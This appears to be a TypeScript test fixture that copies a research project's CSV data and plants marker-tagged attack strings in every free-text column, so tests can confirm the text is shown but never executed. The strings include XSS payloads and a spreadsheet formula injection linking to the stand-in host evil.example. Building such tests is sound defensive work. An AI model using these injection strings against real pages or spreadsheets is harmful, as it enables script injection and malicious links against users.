/**
 * A copy of data/ with hostile text in every transcribed text field: each
 * free-text column of the memo's transcriptions (data/article/*.csv), the
 * claims registry and the quantifier conventions (data/claims/*.csv), and the
 * labels of the waves' manifest and codebook gets, in every row, an attack
 * (HTML that runs script, a script-setting global, Markdown and HTML
 * `javascript:` links, a spreadsheet formula) together with a marker naming
 * the column, so a test can tell that the text reached an output and ran
 * nowhere. Key and code columns (ids, codes, enumerations, numbers) are left
 * as they are: the loaders validate them and the notebooks join on them.
 */
import { cpSync, readFileSync, writeFileSync } from "node:fs";
import * as path from "node:path";
import { parseCsv } from "../../lib/io/parse-csv";
import { projectPath } from "../../lib/project/project-path";

/** The global every script-running attack sets: a page where it is defined ran hostile script. */
export const HOSTILE_GLOBAL = "__lwnHostile";

/**
 * The attacks, each with `{marker}` where the column's marker goes. The
 * `=HYPERLINK` one starts the field (a spreadsheet reads only a leading "="
 * as a formula); the others follow the original text.
 */
export const HOSTILE_PAYLOADS: readonly { readonly text: string; readonly leading?: boolean }[] = [
  { text: `<img src=x onerror="window.${HOSTILE_GLOBAL}='{marker}';alert('{marker}')">` },
  { text: `<script>window.${HOSTILE_GLOBAL}='{marker}'</script>` },
  { text: `[{marker}](javascript:window.${HOSTILE_GLOBAL}='{marker}')` },
  { text: `<a href="javascript:alert('{marker}')">{marker}</a>` },
  { text: `"><svg onload="window.${HOSTILE_GLOBAL}='{marker}'">` },
  { text: `=HYPERLINK("http://evil.example/{marker}","{marker}")`, leading: true },
  { text: `javascript:alert('{marker}') <details open ontoggle="window.${HOSTILE_GLOBAL}='{marker}'">` },
  { text: `<iframe src="javascript:alert('{marker}')"></iframe> **{marker}** | \`x\`` },
];

/**
 * The free-text columns attacked, by data file (relative to data/). A column
 * written `statement!` has its text replaced by the attack rather than
 * followed by it: the loader limits its length (a claim's statement is a
 * short locating phrase of at most 90 characters).
 */
export const HOSTILE_COLUMNS: Readonly<Record<string, readonly string[]>> = {
  "article/context-quantifiers.csv": ["section", "phrase"],
  "article/focus-group-quantifiers.csv": ["section", "phrase"],
  "article/focus-groups.csv": ["design_phrase", "oblast_2019"],
  "article/study-design.csv": ["section", "phrase"],
  "article/table1.csv": ["item", "response", "source"],
  "article/table2.csv": ["category"],
  "article/text-figures.csv": ["section", "phrase"],
  "claims/claims.csv": ["statement!", "reported", "check"],
  "claims/quantifier-conventions.csv": ["source", "rationale"],
  "waves/manifest.csv": ["source", "licence"],
  "waves/codebook.csv": ["wording", "label"],
};

/** What {@link writeHostileData} did: the folder and the marker of each attacked column ("lwnX07" ↔ "claims/claims.csv: statement"). */
export interface HostileData {
  readonly dataDir: string;
  readonly markers: ReadonlyMap<string, string>;
}

/**
 * Copies data/ to `dataDir` and puts the attacks into every row of each
 * column of {@link HOSTILE_COLUMNS}: row i of a column gets payload i (mod
 * the number of payloads), with the column's marker; a value that must stay
 * the same within a group (an item's wording, a table's label) stays the same
 * because equal values get equal payloads (the payload is chosen by the
 * value, not the row). The files are written back as RFC 4180 CSV with every
 * field quoted, so nothing is neutralised on the way in.
 */
export function writeHostileData(dataDir: string): HostileData {
  cpSync(projectPath("data"), dataDir, { recursive: true });
  const markers = new Map<string, string>();
  /** Table 2's categories as attacked: a codebook label naming one must name it as attacked, since the package matches them (Table 2 from the waves). */
  const table2Categories = new Map<string, string>();
  const sameCategory = (text: string): string => text.trim().replace(/\s+/g, " ").toLowerCase();
  let columnIndex = 0;
  for (const [file, columns] of Object.entries(HOSTILE_COLUMNS)) {
    const full = path.join(dataDir, file);
    const parsed = parseCsv(readFileSync(full, "utf8"), full);
    const rows = parsed.rows.map((row) => [...row]);
    for (const spec of columns) {
      const column = spec.replace(/!$/, "");
      const replace = spec.endsWith("!");
      const position = parsed.header.indexOf(column);
      if (position < 0) throw new Error(`writeHostileData: ${file} has no column ${column}`);
      const marker = `lwnX${String(++columnIndex).padStart(2, "0")}`;
      markers.set(marker, `${file}: ${column}`);
      const payloadOf = new Map<string, number>();
      for (const row of rows) {
        const original = row[position];
        if (original.trim() === "") continue;
        if (!payloadOf.has(original)) payloadOf.set(original, payloadOf.size % HOSTILE_PAYLOADS.length);
        const payload = HOSTILE_PAYLOADS[payloadOf.get(original)!];
        const text = payload.text.replace(/\{marker\}/g, marker);
        const linked = file === "waves/codebook.csv" && column === "label" ? table2Categories.get(sameCategory(original)) : undefined;
        row[position] = linked ?? (replace ? text : payload.leading === true ? `${text} ${original}` : `${original} ${text}`);
        if (file === "article/table2.csv" && column === "category") table2Categories.set(sameCategory(original), row[position]);
      }
    }
    const quote = (field: string): string => `"${field.replace(/"/g, '""')}"`;
    writeFileSync(full, [parsed.header, ...rows].map((row) => row.map(quote).join(",")).join("\n") + "\n");
  }
  return { dataDir, markers };
}
